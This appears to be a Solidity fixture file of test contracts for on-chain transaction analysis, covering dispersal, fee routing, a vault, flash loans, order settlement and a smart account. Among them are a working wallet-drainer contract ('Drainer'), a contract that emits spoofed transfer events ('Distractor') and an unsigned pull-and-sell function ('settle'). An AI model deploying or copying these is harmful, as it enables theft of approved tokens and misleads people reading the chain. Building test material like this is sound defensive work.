// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import "./Places.sol";
import "./Tokens.sol";
import "./Odd.sol";

interface IRouter02 {
    function swapExactTokensForTokens(uint256, uint256, address[] calldata, address, uint256)
        external
        returns (uint256[] memory);
    function swapExactTokensForETH(uint256, uint256, address[] calldata, address, uint256)
        external
        returns (uint256[] memory);
}

/// Pays many from one transaction, as disperse.app does: what is left of the coin goes back to the sender.
contract Disperse {
    function disperseEther(address payable[] calldata to, uint256[] calldata values) external payable {
        for (uint256 i = 0; i < to.length; i++) _send(to[i], values[i]);
        if (address(this).balance > 0) _send(payable(msg.sender), address(this).balance);
    }

    function disperseToken(IERC20 token, address[] calldata to, uint256[] calldata values) external {
        uint256 total = 0;
        for (uint256 i = 0; i < to.length; i++) total += values[i];
        require(token.transferFrom(msg.sender, address(this), total), "token");
        for (uint256 i = 0; i < to.length; i++) require(token.transfer(to[i], values[i]), "token");
    }

    function _send(address payable to, uint256 value) private {
        (bool ok, ) = to.call{value: value}("");
        require(ok, "send");
    }
}

/// A drainer's contract: what its victim approved goes to the operator (a fifth) and to the affiliate.
contract Drainer {
    address private immutable operator;

    constructor(address to) {
        operator = to;
    }

    function drain(IERC20 token, address from, address affiliate, uint256 amount) external {
        token.transferFrom(from, operator, amount / 5);
        token.transferFrom(from, affiliate, amount - amount / 5);
    }
}

/// Sells on another's router and keeps 1 % for its fee wallet, of what comes in or of what goes out.
contract FeeRouter {
    IRouter02 private immutable router;
    address payable private immutable wallet;

    constructor(address router_, address payable wallet_) {
        router = IRouter02(router_);
        wallet = wallet_;
    }

    receive() external payable {}

    function sell(uint256 amount, address[] calldata path, address to, uint256 deadline) external {
        IERC20 token = IERC20(path[0]);
        token.transferFrom(msg.sender, address(this), amount);
        token.transfer(wallet, amount / 100);
        TestToken(path[0]).approve(address(router), amount - amount / 100);
        router.swapExactTokensForTokens(amount - amount / 100, 0, path, to, deadline);
    }

    function sellForCoin(uint256 amount, address[] calldata path, address payable to, uint256 deadline) external {
        IERC20(path[0]).transferFrom(msg.sender, address(this), amount);
        TestToken(path[0]).approve(address(router), amount);
        router.swapExactTokensForETH(amount, 0, path, address(this), deadline);
        uint256 got = address(this).balance;
        (bool one, ) = wallet.call{value: got / 100}("");
        (bool two, ) = to.call{value: got - got / 100}("");
        require(one && two, "send");
    }
}

/// A vault after ERC-4626: one token in, shares of the whole out.
contract Vault is NamedToken {
    IERC20 public immutable asset;

    event Deposit(address indexed sender, address indexed owner, uint256 assets, uint256 shares);
    event Withdraw(
        address indexed sender,
        address indexed receiver,
        address indexed owner,
        uint256 assets,
        uint256 shares
    );

    constructor(address token) NamedToken("Lab Vault", "vLAB", 18) {
        asset = IERC20(token);
    }

    function deposit(uint256 assets, address receiver) external returns (uint256 shares) {
        uint256 held = asset.balanceOf(address(this));
        shares = totalSupply == 0 ? assets : (assets * totalSupply) / held;
        asset.transferFrom(msg.sender, address(this), assets);
        totalSupply += shares;
        balanceOf[receiver] += shares;
        emit Transfer(address(0), receiver, shares);
        emit Deposit(msg.sender, receiver, assets, shares);
    }

    function redeem(uint256 shares, address receiver, address owner) external returns (uint256 assets) {
        require(msg.sender == owner, "owner");
        assets = (shares * asset.balanceOf(address(this))) / totalSupply;
        balanceOf[owner] -= shares;
        totalSupply -= shares;
        emit Transfer(owner, address(0), shares);
        asset.transfer(receiver, assets);
        emit Withdraw(msg.sender, receiver, owner, assets, shares);
    }
}

/// Lends for the length of one call, free of charge.
contract FlashLender {
    function flash(IERC20 token, uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        token.transfer(msg.sender, amount);
        FlashUser(msg.sender).onFlash(token, amount);
        require(token.balanceOf(address(this)) >= before, "unpaid");
    }
}

/// Sells its caller's money while it holds a loan of the same money: the loan's two legs cancel.
contract FlashUser {
    FlashLender private immutable lender;
    IRouter02 private immutable router;
    address private caller;
    address[] private path;
    uint256 private deadline;
    uint256 private amount;

    constructor(address lender_, address router_) {
        lender = FlashLender(lender_);
        router = IRouter02(router_);
    }

    function run(uint256 amount_, uint256 loan, address[] calldata path_, uint256 deadline_) external {
        (caller, amount, path, deadline) = (msg.sender, amount_, path_, deadline_);
        lender.flash(IERC20(path_[0]), loan);
    }

    function onFlash(IERC20 token, uint256 loan) external {
        require(msg.sender == address(lender), "lender");
        token.transferFrom(caller, address(this), amount);
        TestToken(address(token)).approve(address(router), amount);
        router.swapExactTokensForTokens(amount, 0, path, caller, deadline);
        token.transfer(address(lender), loan);
    }
}

/// Takes orders and fills them later, by a keeper's hand: sold on an exchange, or paid from what it has.
contract Settlement {
    struct Order {
        address payable owner;
        address token;
        uint256 amount;
    }

    IRouter02 private immutable router;
    Order[] private orders;

    event OrderPlaced(uint256 indexed id, address indexed owner, address token, uint256 amount);
    event OrderFilled(uint256 indexed id, address indexed owner, address bought, uint256 amount);
    event Trade(
        address indexed owner,
        address sellToken,
        address buyToken,
        uint256 sellAmount,
        uint256 buyAmount,
        uint256 feeAmount,
        bytes orderUid
    );

    constructor(address router_) {
        router = IRouter02(router_);
    }

    receive() external payable {}

    function place(address token, uint256 amount) external {
        IERC20(token).transferFrom(msg.sender, address(this), amount);
        emit OrderPlaced(orders.length, msg.sender, token, amount);
        orders.push(Order(payable(msg.sender), token, amount));
    }

    /// Sells what the order left here and pays the owner in coin.
    function fillOnExchange(uint256 id, address[] calldata path, uint256 deadline) external {
        Order storage order = orders[id];
        uint256 had = address(this).balance;
        TestToken(order.token).approve(address(router), order.amount);
        router.swapExactTokensForETH(order.amount, 0, path, address(this), deadline);
        uint256 got = address(this).balance - had;
        (bool ok, ) = order.owner.call{value: got}("");
        require(ok, "send");
        emit OrderFilled(id, order.owner, address(0), got);
    }

    /// Pays the owner from the stock; what was sold stays here.
    function fillFromStock(uint256 id, IERC20 bought, uint256 amount) external {
        Order storage order = orders[id];
        require(bought.transfer(order.owner, amount), "stock");
        emit OrderFilled(id, order.owner, address(bought), amount);
    }

    /// Pulls, sells and pays in one transaction that the owner does not sign.
    function settle(address owner, uint256 amount, address[] calldata path, uint256 deadline) external {
        IERC20(path[0]).transferFrom(owner, address(this), amount);
        TestToken(path[0]).approve(address(router), amount);
        uint256[] memory got = router.swapExactTokensForTokens(amount, 0, path, address(this), deadline);
        address bought = path[path.length - 1];
        uint256 out = got[got.length - 1];
        IERC20(bought).transfer(owner, out);
        emit Trade(owner, path[0], bought, amount, out, 0, abi.encodePacked(keccak256(abi.encode(owner)), owner, deadline));
    }
}

struct PackedUserOperation {
    address sender;
    uint256 nonce;
    bytes initCode;
    bytes callData;
    bytes32 accountGasLimits;
    uint256 preVerificationGas;
    bytes32 gasFees;
    bytes paymasterAndData;
    bytes signature;
}

/// The least a smart account can be: its owner signs, a bundler carries it to the entry point, the account moves.
contract Account {
    address private immutable entry;
    address private immutable owner;

    constructor(address entry_, address owner_) {
        entry = entry_;
        owner = owner_;
    }

    receive() external payable {}

    function validateUserOp(PackedUserOperation calldata op, bytes32 hash, uint256 missing) external returns (uint256) {
        require(msg.sender == entry && missing == 0, "entry");
        bytes memory sign = op.signature;
        bytes32 r;
        bytes32 s;
        assembly {
            r := mload(add(sign, 32))
            s := mload(add(sign, 64))
        }
        return ecrecover(hash, uint8(sign[64]), r, s) == owner ? 0 : 1;
    }

    function executeBatch(address[] calldata to, uint256[] calldata values, bytes[] calldata data) external {
        require(msg.sender == entry, "entry");
        for (uint256 i = 0; i < to.length; i++) {
            (bool ok, ) = to[i].call{value: values[i]}(data[i]);
            require(ok, "call");
        }
    }
}

/// Pays with the caller's own money while another contract says that far more went elsewhere, and tries what fails.
contract Distractor {
    function pay(IERC20 token, address to, uint256 amount, SpoofToken spoof, FalseToken failing) external {
        spoof.spoof(msg.sender, address(this), amount * 1000);
        token.transferFrom(msg.sender, to, amount);
        failing.transferFrom(msg.sender, to, amount);
        spoof.spoof(address(this), to, amount * 1000);
    }
}

/// Reads many balances in one call; token 0 is the coin.
contract Lens {
    function balances(address[] calldata who, address[] calldata tokens) external view returns (uint256[] memory held) {
        held = new uint256[](who.length * tokens.length);
        for (uint256 i = 0; i < who.length; i++) {
            for (uint256 j = 0; j < tokens.length; j++) {
                held[i * tokens.length + j] = tokens[j] == address(0)
                    ? who[i].balance
                    : IERC20(tokens[j]).balanceOf(who[i]);
            }
        }
    }
}
